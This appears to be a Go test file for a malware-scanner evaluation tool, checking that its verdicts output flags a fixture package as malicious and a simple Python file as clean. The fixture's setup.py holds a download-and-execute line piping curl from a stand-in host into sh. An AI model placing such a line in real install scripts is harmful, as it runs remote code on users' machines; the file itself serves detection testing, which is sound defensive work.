package eval

import (
	"bytes"
	"context"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
)

// The verdicts file names each artifact under its corpus, sorted, with its
// verdict and the rules that found something at their highest severity.
func TestWriteVerdicts(t *testing.T) {
	dir := t.TempDir()
	files := map[string]string{
		"b-clean.py": "def add(a, b):\n    return a + b\n",
		"a-dropper/setup.py": "import os\nos.system('curl -s https://payload.example.test/x | sh')\n" +
			"from setuptools import setup\nsetup(name='dropper')\n",
	}
	for name, body := range files {
		p := filepath.Join(dir, "mal", name)
		os.MkdirAll(filepath.Dir(p), 0o755)
		if err := os.WriteFile(p, []byte(body), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	stats, err := Run(context.Background(), []Corpus{{Name: "mal", Dir: filepath.Join(dir, "mal"), Malicious: true}}, 2)
	if err != nil {
		t.Fatal(err)
	}
	var buf bytes.Buffer
	if err := WriteVerdicts(&buf, stats); err != nil {
		t.Fatal(err)
	}
	lines := strings.Split(strings.TrimSpace(buf.String()), "\n")
	if len(lines) != 3 || !strings.HasPrefix(lines[0], "# ") {
		t.Fatalf("want a header and two lines, got:\n%s", buf.String())
	}
	var got [][]string
	for _, l := range lines[1:] {
		got = append(got, strings.Split(l, "\t"))
	}
	if got[0][0] != "mal/a-dropper" || got[0][1] != "malicious" || !strings.Contains(got[0][2], "download-execute:critical") {
		t.Errorf("dropper line %q: want mal/a-dropper, malicious, download-execute:critical among the rules", got[0])
	}
	if d := cmp.Diff([]string{"mal/b-clean.py", "clean", "-"}, got[1]); d != "" {
		t.Errorf("clean line (-want +got):\n%s", d)
	}
}
